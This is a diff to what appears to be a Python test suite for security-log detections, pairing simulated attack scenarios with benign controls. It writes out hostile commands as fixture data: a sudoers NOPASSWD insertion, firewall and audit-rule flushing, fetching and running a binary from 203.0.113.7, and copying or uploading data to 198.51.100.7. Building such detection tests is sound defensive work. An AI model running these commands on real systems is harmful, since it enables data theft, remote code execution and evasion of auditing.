@@ -254,3 +254,110 @@ for what, bad, good in [("sudoers-changed", "echo 'lin ALL=(ALL) NOPASSWD: ALL' 
                         ("firewall-flushed", "iptables -F", "iptables -nL"), ("tool-fetched-and-run", "wget http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "wget --version"), ("audit-rules-removed", "auditctl -D", "auditctl -l"),
                         ("account-made", "useradd -m svc2", "id svc2"), ("service-left-stopped", "systemctl stop auditd", "systemctl status auditd"), ("clock-set-back", "date -s '2026-03-15 02:00'", "date '+%F'"), ("mass-delete", "rm -rf /srv/backup", "rm -f /tmp/a")]:
     spelling(f"{what}/bastion", jms(bad), jms(good))
+
+
+# ------------------------------------------------------------------------------------------------- how much, how often
+
+def sftp(count, who="lin", host="app-01", verb="open", clock="11:00", words=("internal-sftp",)):
+    """A session in which so many files are fetched (or removed)."""
+    def act(world):
+        when = world.at(clock)
+        world.pid += 5
+        pid = world.pid
+        world.login(when, who, host, BASTION_IP)
+        world.say(when, host, words[0], f"session opened for local user {who} from [{BASTION_IP}]", 86, pid)
+        for i in range(count):
+            when += seconds(2)
+            path = f"/srv/export/{i:04}.csv"
+            if verb == "open":
+                world.say(when, host, words[0], f'open "{path}" flags READ mode 0666', 86, pid)
+                world.say(when, host, words[0], f'close "{path}" bytes read 1048576 written 0', 86, pid)
+            else:
+                world.say(when, host, words[0], f'remove name "{path}"', 86, pid)
+        world.say(when, host, words[0], f"session closed for local user {who} from [{BASTION_IP}]", 86, pid)
+    return act
+
+
+def many_opens(count, who="chen", host="app-01"):
+    def act(world):
+        for i in range(count):
+            opened(f"/srv/archive/{i:04}.pdf", READ, who, host, f"11:{i % 50:02}", executable="/usr/bin/cp")(world)
+    return act
+
+
+def downloads(count):
+    def act(world):
+        for i in range(count):
+            jumpserver("ftp_log", f"11:{i % 50:02}", user="Lin(lin)", remote_addr="10.20.1.11", asset="db-01", account="root", operate={"value": "download"}, filename=f"/data/{i}.csv", is_success=True)(world)
+    return act
+
+
+spelling("mass-download/sftp", sftp(150), sftp(6))
+spelling("mass-download/bastion", downloads(160), downloads(3))
+spelling("mass-read/audit", many_opens(160), many_opens(8))
+spelling("mass-delete/sftp", sftp(150, verb="remove"), sftp(4, verb="remove"))
+spelling("data-copied-away", by_sudo("lin", "web-01", "/usr/bin/scp -r /srv/export lin@198.51.100.7:/in"), by_sudo("lin", "web-01", "/usr/bin/scp /tmp/site.tar.gz web-02:/tmp"))
+spelling("data-copied-away/root-shell", roots("/usr/bin/curl -T /tmp/all.tgz https://198.51.100.7/up"), roots("/usr/bin/curl -I http://127.0.0.1/healthz"))
+
+
+def group(clock, day, who, name):
+    return lambda world: world.say(world.at(clock, day), "ldap-01", "usermod", f"add '{who}' to group '{name}'", 86, 4410)
+
+
+def granted_each_few_days(world):
+    """Each small, by who has the office."""
+    group("14:03", 1, "sun", "developers")(world)
+    world.mysql(world.at("14:04", 5), "wu", "db-01", "GRANT SELECT ON shop.customers TO 'sun'@'%'")
+    world.sudo(world.at("14:05", 9), "zhou", "ldap-01", "/usr/sbin/usermod -aG operators sun")
+    group("14:03", 14, "sun", "backup")(world)
+
+
+spelling("slow-growth-of-rights", granted_each_few_days, both(group("14:03", 14, "sun", "developers"), group("14:03", 7, "he", "developers")))
+
+
+def own_serials(world):
+    """As machines count: each its own."""
+    import re
+    count = {}
+    for i, (when, line) in sorted(enumerate(world.lines), key=lambda one: (one[1][0], one[0])):
+        at = re.search(r"audit\((\S+):(\d+)\): ", line)
+        if not at:
+            continue
+        host = line.split(" ", 3)[2]
+        known = count.setdefault(host, {})
+        number = known.setdefault(at[2], len(known) + 1)
+        world.lines[i] = (when, line.replace(f":{at[2]}): ", f":{number}): "))
+
+
+def serials_jump(world):
+    """All that the audit system of web-01 said of two hours is gone."""
+    own_serials(world)
+    world.lines = [(when, line) for when, line in world.lines if not (" web-01 audisp" in line and world.at("09:00") < when < world.at("17:00"))]
+
+
+spelling("sequence-gap/audit", serials_jump, own_serials)
+
+
+def chatty(world):
+    """Requests on all machines, day and night."""
+    for day in range(15):
+        for minute in range(0, 24 * 60, 6):
+            when = world.at("00:00", day) + seconds(60 * minute)
+            for host in ("web-01", "web-02", "app-01", "db-01"):
+                world.say(when + seconds(len(host)), host, "app", f"worker {minute % 7} has done its job", 134, 77)
+
+
+def far_below(world):
+    """app-01 goes on, with a twentieth of what it says."""
+    chatty(world)
+    kept = [0]
+
+    def keep(when, line):
+        if " app-01 " not in line or when < world.at("02:30"):
+            return True
+        kept[0] += 1
+        return kept[0] % 20 == 0
+    world.lines = [(when, line) for when, line in sorted(world.lines, key=lambda one: one[0]) if keep(when, line)]
+
+
+spelling("source-far-below-its-rate", far_below, chatty)
